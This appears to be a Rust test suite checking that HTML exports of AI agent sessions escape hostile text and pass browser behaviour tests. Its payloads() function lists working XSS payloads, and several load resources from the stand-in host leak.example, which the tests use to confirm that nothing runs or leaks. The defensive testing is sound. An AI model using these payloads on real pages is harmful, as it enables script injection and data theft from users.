//! Pages of hostile sessions: nothing of the session runs, nothing is asked for, and the page works.

use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use session_context::export::{Export, ExportOptions, Format, Scope};
use session_model::document::{LoadOptions, SessionDocument};
use session_model::json::RawJson;
use sha2::{Digest, Sha256};

use crate::browser::{Visit, visit};

/// What a script of the session would do, and where requests of the session would go.
const RUN: &str = "document.documentElement.setAttribute('data-pwned',1);alert(1)";
const HOST: &str = "http://leak.example";

pub fn payloads() -> Vec<String> {
    let url = format!("{HOST}/x");
    let base64 = STANDARD.encode(format!("<script>parent.{RUN}</script>"));
    vec![
        format!("<script>{RUN}</script>"),
        format!("</script><script>{RUN}</script>"),
        format!("</style><script>{RUN}</script>"),
        format!("</title><script>{RUN}</script>"),
        format!("</pre></code></details><script>{RUN}</script>"),
        format!("--><script>{RUN}</script><!--"),
        format!("]]><script>{RUN}</script>"),
        format!("\"><img src=x onerror=\"{RUN}\">"),
        format!("' autofocus onfocus='{RUN}' x='"),
        format!("<svg onload=\"{RUN}\"><script>{RUN}</script></svg>"),
        format!("<svg><animate onbegin=\"{RUN}\" attributeName=x dur=1s></svg>"),
        format!(
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={RUN}&gt;\">"
        ),
        format!("<noscript><p title=\"</noscript><img src=x onerror={RUN}>\">"),
        format!("<template><img src=x onerror={RUN}></template><details open ontoggle={RUN}>"),
        format!("<iframe srcdoc=\"&lt;script&gt;parent.{RUN}&lt;/script&gt;\"></iframe>"),
        format!(
            "<iframe src=\"data:text/html;base64,{base64}\"></iframe><object data=\"{url}\"></object>"
        ),
        format!(
            "<base href=\"{HOST}/\"><link rel=stylesheet href=\"{url}.css\"><meta http-equiv=refresh content=\"0;url={url}\">"
        ),
        format!(
            "<img src=\"{url}\" srcset=\"{url} 2x\"><video src=\"{url}\" poster=\"{url}\"></video><audio src=\"{url}\"></audio>"
        ),
        format!(
            "<style>@import '{url}';body{{background:url({url})}}</style><p style=\"background:url({url})\">"
        ),
        format!("<form action=\"{url}\"><input autofocus></form><script src=\"{url}\"></script>"),
        format!(
            "[a](javascript:{RUN}) [b](data:text/html;base64,{base64}) [c]( java\tscript:{RUN})"
        ),
        format!("[d](&#106;avascript:{RUN}) [e](<javascript:{RUN}>) <javascript:{RUN}>"),
        format!("![i]({url}) ![j](x\" onerror=\"{RUN}) [k]: {url} \"t\"\n\n[k] ![k]"),
        format!("```\"><script>{RUN}</script>\n</code></pre><script>{RUN}</script>\n```"),
        format!(
            "# h {{#x .y onclick={RUN}}}\n\n| <img src=x onerror={RUN}> | b |\n|---|---|\n| {url} | `<script>` |"
        ),
        format!(
            "\u{202e}<script>{RUN}</script>\u{2066}\u{0}\u{1b}[31m\u{feff}\u{2028}\u{85}＜script＞ſcript"
        ),
        format!("+ADw-script+AD4-{RUN}+ADw-/script+AD4- \u{1b}$B<script>{RUN}</script>"),
        format!("&lt;script&gt;{RUN}&lt;/script&gt; &#60;script> &amp;lt;"),
        format!("{}<script>{RUN}</script>", "a".repeat(300_000)),
        format!("{}<script>{RUN}</script>", "> ".repeat(500)),
    ]
}

/// A session with hostile text in every place that takes text.
pub fn hostile() -> String {
    let first = RawJson::string(&payloads()[1]);
    let svg = STANDARD
        .encode(format!("<svg xmlns='http://www.w3.org/2000/svg'><script>{RUN}</script></svg>"));
    let mut file = format!(
        "{{\"type\":\"session\",\"version\":3,\"id\":{first},\"timestamp\":{first},\"cwd\":{first},\"title\":{first},\"parentSession\":{first}}}\n"
    );
    let mut parent = RawJson::null();
    for payload in payloads() {
        let text = RawJson::string(&payload);
        let image = RawJson::string(&format!("iVBORw0KGgo{payload}"));
        let bodies = [
            format!(
                "\"type\":\"message\",\"message\":{{\"role\":\"user\",\"content\":[{{\"type\":\"text\",\"text\":{text}}},{{\"type\":\"image\",\"mimeType\":{text},\"data\":{image}}},{{\"type\":\"image\",\"mimeType\":\"image/svg+xml\",\"data\":\"{svg}\"}},{{\"type\":\"image\",\"mimeType\":\"image/png\",\"data\":\"{HOST}/i.png\"}}]}}"
            ),
            format!(
                "\"type\":\"message\",\"message\":{{\"role\":\"assistant\",\"provider\":{text},\"model\":{text},\"stopReason\":\"error\",\"errorMessage\":{text},\"content\":[{{\"type\":\"thinking\",\"thinking\":{text}}},{{\"type\":\"toolCall\",\"id\":{text},\"name\":{text},\"arguments\":{{{text}:{text},\"o\":[{text}]}}}}]}}"
            ),
            format!(
                "\"type\":\"message\",\"message\":{{\"role\":\"toolResult\",\"toolCallId\":\"c\",\"toolName\":{text},\"content\":[{{\"type\":\"text\",\"text\":{text}}},{{\"type\":{text},\"x\":{text}}}],\"isError\":true}}"
            ),
            format!("\"type\":\"custom\",\"customType\":{text},\"data\":{text}"),
            format!("\"type\":{text},\"x\":{text}"),
            format!("\"type\":\"label\",\"targetId\":\"e\",\"label\":{text}"),
        ];
        let more = [
            format!("\"type\":\"branch_summary\",\"fromId\":{text},\"summary\":{text}"),
            format!(
                "\"type\":\"compaction\",\"summary\":{text},\"shortSummary\":{text},\"firstKeptEntryId\":{text},\"tokensBefore\":{text}"
            ),
            format!(
                "\"type\":\"custom_message\",\"customType\":{text},\"content\":{text},\"display\":true"
            ),
            format!("\"type\":\"model_change\",\"model\":{text},\"role\":{text}"),
            format!("\"type\":\"thinking_level_change\",\"thinkingLevel\":{text}"),
            format!("\"type\":\"title_change\",\"title\":{text},\"source\":\"user\""),
            format!(
                "\"type\":\"session_init\",\"systemPrompt\":{text},\"task\":{text},\"tools\":[{text}]"
            ),
            format!("\"type\":\"mode_change\",\"mode\":{text},\"data\":{{{text}:{text}}}"),
            format!("\"type\":\"message\",\"message\":{{\"role\":{text},\"content\":{text}}}"),
            format!(
                "\"type\":\"message\",\"message\":{{\"role\":\"bashExecution\",\"command\":{text},\"output\":{text},\"exitCode\":1}}"
            ),
            format!(
                "\"type\":\"message\",\"message\":{{\"role\":\"fileMention\",\"files\":[{{\"path\":{text},\"content\":{text},\"skippedReason\":{text},\"image\":{{\"type\":\"image\",\"mimeType\":{text},\"data\":{image}}}}}]}}"
            ),
        ];
        // Long texts are shown in one way, wherever they stand.
        let more = more.iter().filter(|_| payload.len() < 10_000);
        for (at, body) in bodies.iter().chain(more).enumerate() {
            let id = match at {
                0 => "e".to_owned(),
                _ => format!("{at}{}", payload.chars().take(80).collect::<String>()),
            };
            let id = RawJson::string(&id);
            file.push_str(&format!(
                "{{{body},\"id\":{id},\"parentId\":{parent},\"timestamp\":{text}}}\n"
            ));
            parent = id;
        }
    }
    file
}

fn page(file: String) -> String {
    let loaded = SessionDocument::load(file.into(), &LoadOptions::default()).unwrap();
    let options = ExportOptions::default().scope(Scope::All).without_redaction();
    Export::new(&loaded.document, &options).unwrap().render(Format::Html)
}

/// A page with one more script, which its policy allows.
fn driven(page: &str, script: &str) -> String {
    let digest = STANDARD.encode(Sha256::digest(script));
    let allowed = page.replacen("script-src '", &format!("script-src 'sha256-{digest}' '"), 1);
    allowed.replace("</body>", &format!("<script>{script}</script></body>"))
}

/// A page without its policy.
fn without_policy(page: &str) -> String {
    let start = page.find("<meta http-equiv=\"Content-Security-Policy\"").unwrap();
    let end = start + page[start..].find('>').unwrap() + 1;
    format!("{}{}", &page[..start], &page[end..])
}

#[track_caller]
fn assert_harmless(visit: &Visit) {
    assert!(!visit.document.contains("data-pwned=\"1\""), "a script of the session has run");
    assert_eq!(visit.requests, [""; 0]);
    assert!(
        visit.document.contains("<html lang=\"en\" class=\"js\">"),
        "the page's own script has not run"
    );
}

#[test]
fn nothing_of_a_hostile_session_runs_or_asks_for_anything() {
    let page = page(hostile());
    assert_harmless(&visit(&page, &[]));
    // The text is escaped, so the policy is not what it takes.
    assert_harmless(&visit(&without_policy(&page), &[]));
}

#[test]
fn a_page_that_does_not_escape_is_noticed() {
    let open = format!(
        "<html><body><img src=\"{HOST}/x\"><script>document.documentElement.setAttribute('data-pwned',1)</script>"
    );
    let visit = visit(&open, &[]);
    assert!(visit.document.contains("data-pwned=\"1\""));
    assert_eq!(visit.requests, [format!("GET {HOST}/x HTTP/1.1")]);
}

#[test]
fn the_policy_stops_what_would_get_through() {
    let inside =
        format!("<img src=\"{HOST}/x\"><img src=x onerror=\"{RUN}\"><script>{RUN}</script></main>");
    let visit = visit(&page(branches()).replace("</main>", &inside), &[]);
    assert_harmless(&visit);
}

/// `n0` and `n1`, then a branch with a call, its result and an answer, and another with the leaf.
fn branches() -> String {
    let entry = |id: &str, parent: &str, message: &str| {
        format!(
            "{{\"type\":\"message\",\"id\":\"{id}\",\"parentId\":\"{parent}\",\"message\":{{{message}}}}}\n"
        )
    };
    let lines = (0..40).map(|n| format!("line {n}\\n")).collect::<String>();
    [
        "{\"type\":\"session\",\"version\":3,\"id\":\"s\",\"cwd\":\"/w\",\"title\":\"Ways\"}\n".to_owned(),
        entry("n0", "", "\"role\":\"user\",\"content\":\"**begin** here\""),
        entry("n1", "n0", "\"role\":\"assistant\",\"content\":[{\"type\":\"thinking\",\"thinking\":\"a thought\"},{\"type\":\"toolCall\",\"id\":\"c\",\"name\":\"bash\",\"arguments\":{\"command\":\"ls\"}}]"),
        entry("n2", "n1", &format!("\"role\":\"toolResult\",\"toolCallId\":\"c\",\"toolName\":\"bash\",\"content\":[{{\"type\":\"text\",\"text\":\"{lines}\"}}]")),
        entry("n3", "n2", "\"role\":\"assistant\",\"content\":[{\"type\":\"text\",\"text\":\"old needle\"}]"),
        entry("n4", "n0", "\"role\":\"user\",\"content\":\"another way\""),
    ]
    .concat()
}

/// Runs a script in the page of [`branches`] and returns what it found.
fn found(script: &str, args: &[&str]) -> String {
    let script = format!(
        "setTimeout(async()=>{{const id=(x)=>document.getElementById(x);\
         const pause=(ms)=>new Promise((done)=>setTimeout(done,ms));\
         const seen=()=>[...document.querySelectorAll('article')].filter((a)=>a.checkVisibility()).map((a)=>a.id).join(' ');\
         const rows=()=>[...document.querySelectorAll('#tree a')].filter((a)=>a.checkVisibility()).map((a)=>a.dataset.n).join(' ');\
         let out=[];{script};document.documentElement.setAttribute('data-found',out.join('|'))}})"
    );
    let visit = visit(&driven(&page(branches()), &script), args);
    assert_harmless_script(&visit);
    let rest = visit
        .document
        .split("data-found=\"")
        .nth(1)
        .unwrap_or_else(|| panic!("{}", visit.document));
    rest.split('"').next().unwrap().to_owned()
}

#[track_caller]
fn assert_harmless_script(visit: &Visit) {
    assert_eq!(visit.requests, [""; 0]);
}

#[test]
fn the_tree_leads_to_branches() {
    let script = "out.push(seen(),rows());\
        document.querySelector('#tree a[data-n=\"3\"]').click();await pause(50);out.push(seen());\
        id('whole').click();out.push(seen());\
        id('filter').value='all';id('filter').dispatchEvent(new Event('change'));out.push(rows())";
    assert_eq!(found(script, &[]), "e0 e4|0 4 2 3|e0 e1 e2 e3|e0 e1 e2 e3 e4|0 4 1 2 3");
}

#[test]
fn search_shows_what_holds_all_words() {
    let script = "const find=async(words)=>{id('search').value=words;\
        id('search').dispatchEvent(new Event('input'));await pause(300);\
        out.push(seen(),id('found').textContent)};\
        await find('NEEDLE old');await find('line 39');await find('nothing');await find('')";
    assert_eq!(found(script, &[]), "e3|1 entry|e2|1 entry||0 entries|e0 e4|");
}

#[test]
fn tools_and_thoughts_fold() {
    let script = "const open=()=>[...document.querySelectorAll('details')].filter((d)=>d.open).length;\
        id('whole').click();out.push(open());id('open').click();out.push(open());\
        id('close').click();out.push(open());\
        dispatchEvent(new Event('beforeprint'));out.push(open());\
        dispatchEvent(new Event('afterprint'));out.push(open())";
    assert_eq!(found(script, &[]), "0|3|0|3|0");
}

#[test]
fn colours_follow_the_reader() {
    let script = "const colour=()=>getComputedStyle(document.body).backgroundColor;\
        out.push(colour());id('theme').click();out.push(colour());id('theme').click();out.push(colour())";
    let (light, dark) = ("rgb(251, 251, 250)", "rgb(22, 24, 27)");
    assert_eq!(found(script, &[]), format!("{light}|{dark}|{light}"));
    let prefers_dark = ["--blink-settings=preferredColorScheme=0"];
    assert_eq!(found(script, &prefers_dark), format!("{dark}|{light}|{dark}"));
}
